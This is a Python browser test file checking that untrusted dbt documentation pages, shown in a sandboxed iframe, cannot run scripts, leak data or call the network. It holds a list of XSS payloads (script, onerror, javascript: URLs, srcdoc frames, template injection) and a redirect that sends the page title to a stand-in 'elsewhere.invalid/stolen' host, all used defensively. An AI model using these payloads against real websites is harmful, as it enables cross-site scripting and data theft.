"""What hostile dbt docs can do in the frame that shows them, and that honest ones can be read there."""

from __future__ import annotations

import json
import socket
from contextlib import suppress
from pathlib import Path

import dbt.task.docs
import pytest

from meshwright.site.dbt_docs import dbt_docs_files, dbt_docs_path, shut_in
from tests.browser.written import written
from tests.unit.site.example_mesh import MESH
from tests.unit.site.whole_site import site_of

pytestmark = pytest.mark.xdist_group("browser")

# What the address of somebody else's host is put in place of.
ELSEWHERE = "http://elsewhere.invalid/stolen"

# Each of its lines tries one thing and keeps what worked, for the test alone to see.
HOSTILE = (Path(__file__).parent / "hostile_dbt_docs.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def folder(tmp_path_factory, elsewhere):
    """The site of the example, with hostile dbt docs in one domain."""
    site = site_of(MESH, {"weather": dbt_docs_path("weather"), "fleet": dbt_docs_path("fleet")})
    files = {
        **site,
        **dict(dbt_docs_files("weather", shut(HOSTILE.replace(ELSEWHERE, elsewhere.address)))),
        **dict(dbt_docs_files("fleet", honest("One row for each plane, says the docs."))),
    }
    return written(tmp_path_factory.mktemp("site"), files)


@pytest.fixture(scope="module", params=["file", "http"])
def home(request, folder, served):
    """Where the site lies: on a disk, and on a server."""
    return folder.as_uri() if request.param == "file" else served(folder)


def shut(page):
    """A page whose scripts run as if they were dbt's own, shut in."""
    data = '<script>["MANIFEST.JSON INLINE DATA", "CATALOG.JSON INLINE DATA"]</script>'
    return shut_in(f"{page}{data}".encode(), b"{}", b"{}")


def honest(description):
    """What we make of what `dbt docs generate` writes, for a project with one model."""
    page = (Path(dbt.task.docs.__file__).parent / "index.html").read_bytes()
    node = {
        "unique_id": "model.fleet.planes",
        "resource_type": "model",
        "package_name": "fleet",
        "name": "planes",
        "alias": "planes",
        "path": "planes.sql",
        "original_file_path": "models/planes.sql",
        "database": "db",
        "schema": "main",
        "description": description,
        "columns": {},
        "tags": [],
        "meta": {},
        "config": {"materialized": "table", "enabled": True},
        "depends_on": {"nodes": [], "macros": []},
        "refs": [],
        "sources": [],
        "fqn": ["fleet", "planes"],
        "raw_code": "select 1",
        "language": "sql",
        "access": "public",
        "docs": {"show": True},
    }
    manifest = {
        "metadata": {"project_name": "fleet", "dbt_version": "1.11.0", "adapter_type": "duckdb"},
        "nodes": {node["unique_id"]: node},
        **{
            key: {}
            for key in (
                "sources",
                "macros",
                "exposures",
                "metrics",
                "semantic_models",
                "saved_queries",
                "unit_tests",
                "groups",
                "selectors",
                "disabled",
                "parent_map",
                "child_map",
            )
        },
        "docs": {"doc.dbt.__overview__": {"name": "__overview__", "package_name": "dbt", "block_contents": "# Hello"}},
    }
    catalog = {"metadata": {}, "nodes": {}, "sources": {}, "errors": None}
    return shut_in(page, json.dumps(manifest).encode(), json.dumps(catalog).encode())


def test_hostile_docs_reach_neither_the_site_nor_its_storage_nor_the_network(visit, home, elsewhere):
    visit = visit()
    visit.context.add_cookies([{"name": "secret", "value": "1", "url": home}] if home.startswith("http") else [])
    page = visit.open(f"{home}/index.html")
    page.evaluate("localStorage.setItem('secret', '1')")
    page.goto(f"{home}/dbt/weather/index.html")
    body = page.frame_locator("iframe.dbt-docs").locator("body[data-done]")
    assert json.loads(body.get_attribute("data-did")) == []  # and the script ran, or there were no such attribute
    assert page.url == f"{home}/dbt/weather/index.html"
    assert page.title() == "dbt docs of weather - data mesh"
    assert page.evaluate("window.PWNED") is None
    assert page.evaluate("localStorage.getItem('mesh-theme')") is None
    assert page.evaluate("localStorage.getItem('secret')") == "1"
    assert "stolen" not in page.evaluate("document.cookie")
    assert page.locator("iframe.dbt-docs").get_attribute("sandbox") == "allow-scripts"
    assert elsewhere.asked == []
    assert visit.dialogs == []
    assert len(visit.context.pages) == 1


@pytest.fixture
def packets():
    """What comes to a port of this machine without a connection, as calls between browsers begin; and its address."""
    heard = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listening:
        listening.bind(("127.0.0.1", 0))
        listening.settimeout(0.3)

        def hear():
            with suppress(TimeoutError):
                while True:
                    heard.append(listening.recv(2000))
            return heard

        yield "stun:{}:{}".format(*listening.getsockname()), hear


CALL = (
    "var c = new RTCPeerConnection({{iceServers: [{{urls: `{0}`}}]}}); c.createDataChannel(`x`);"
    "c.createOffer().then(function (o) {{ return c.setLocalDescription(o); }});"
    "top.PWNED = 1; document.title = `PWNED`;"
)
IN_TEXT = (
    "<script>{0}</script>",
    '<img src="x" onerror="{0}">',
    '<svg onload="{0}"></svg>',
    '<iframe srcdoc="&lt;script>{0}&lt;/script>"></iframe>',
    """<iframe src="javascript:'&lt;script>{0}&lt;/script>'"></iframe>""",
    '<iframe src="javascript:{0}"></iframe>',
    '<object data="data:text/html,&lt;script>{0}&lt;/script>"></object>',
    '<embed src="javascript:{0}">',
    "<div><template shadowrootmode=closed><iframe srcdoc='&lt;script>{0}&lt;/script>'></iframe></template></div>",
    "</script><script>{0}</script>",
    "<!--<script>",
    "{{{{constructor.constructor('{0}')()}}}}",
    '<a href="javascript:{0}" autofocus onfocus="{0}">x</a>',
)


def test_no_script_of_a_description_runs_nor_do_the_docs_break(visit, home, folder, packets):
    address, hear = packets
    call = CALL.format(address)
    text = "\n\n".join(["Planes, say the docs.", *(each.format(call) for each in IN_TEXT), "The end."])
    written(folder, dict(dbt_docs_files("planes", honest(text))))
    page = visit().open(f"{home}/dbt/planes/index.html#!/model/model.fleet.planes")
    frame = page.frame_locator("iframe.dbt-docs")
    frame.get_by_text("Hello").wait_for()
    for name in ("fleet", "models", "planes"):
        frame.locator("a:visible", has_text=name).first.click()
    for said in ("Planes, say the docs.", "The end."):
        frame.get_by_role("paragraph").filter(has_text=said).first.wait_for()
    assert hear() == []
    assert page.evaluate("window.PWNED") is None
    assert frame.locator("html").evaluate("() => document.title") != "PWNED"


def test_without_the_policy_a_frame_in_the_docs_would_call_out(visit, tmp_path, packets):
    address, hear = packets
    inner = IN_TEXT[3].format(CALL.format(address).replace('"', "&quot;"))
    written(tmp_path, {"bare.html": f"<!doctype html>{inner}"})
    visit().open((tmp_path / "bare.html").as_uri())
    assert hear() != []


def test_what_navigates_its_own_frame_away_gets_nowhere(visit, home, folder, elsewhere):
    away = f"<script>location.href = '{elsewhere.address}?' + document.title</script>"
    refresh = f'<meta http-equiv="refresh" content="0;url={elsewhere.address}">'
    for name, html in (("away", away), ("refresh", refresh)):
        written(folder, dict(dbt_docs_files(name, shut(html))))
        page = visit().open(f"{home}/dbt/{name}/index.html")
        page.wait_for_timeout(300)
        assert page.url == f"{home}/dbt/{name}/index.html"
    assert elsewhere.asked == []


def test_without_the_frame_the_same_docs_would_reach_the_network(visit, served, tmp_path, elsewhere):
    written(tmp_path, {"bare.html": HOSTILE.replace(ELSEWHERE, elsewhere.address)})
    visit().open(f"{served(tmp_path)}/bare.html", "commit").wait_for_timeout(300)
    assert len(elsewhere.asked) > 5
    elsewhere.asked.clear()


def test_opened_directly_they_lead_to_our_page_and_nothing_of_them_runs(visit, home, folder):
    html = "<title>PWNED</title><script>{0}</script><img src=x onerror={0}>".format("localStorage.setItem('ran',1)")
    written(folder, dict(dbt_docs_files("silent", shut(html))))
    visitor = visit()
    page = visitor.open(f"{home}/dbt/silent/docs.html", "commit")
    page.wait_for_url(f"{home}/dbt/silent/index.html")
    assert page.evaluate("localStorage.getItem('ran')") is None
    assert visitor.elsewhere(home) == []


def test_in_a_frame_without_a_sandbox_they_do_not_run(visit, served, folder):
    html = "<script>parent.PWNED = 1; localStorage.setItem('ran', '1')</script>"
    written(folder, dict(dbt_docs_files("bare", shut(html))))
    written(folder, {"frame.html": '<!doctype html><iframe src="dbt/bare/docs.html"></iframe>'})
    page = visit().open(f"{served(folder)}/frame.html")
    page.wait_for_timeout(200)
    assert page.evaluate("[window.PWNED, localStorage.getItem('ran')]") == [None, None]


def test_honest_docs_are_read_and_walked_through(visit, home):
    visitor = visit()
    page = visitor.open(f"{home}/domains/fleet/index.html")
    page.get_by_role("link", name="dbt docs").click()
    frame = page.frame_locator("iframe.dbt-docs")
    frame.get_by_text("Hello").wait_for()
    for name in ("fleet", "models", "planes"):
        frame.locator("a:visible", has_text=name).first.click()
    frame.get_by_role("paragraph").filter(has_text="One row for each plane, says the docs.").first.wait_for()
    frame.locator("a:visible", has_text="Code").first.click()
    frame.locator("code:visible", has_text="select 1").first.wait_for()
    assert visitor.elsewhere(home) == []
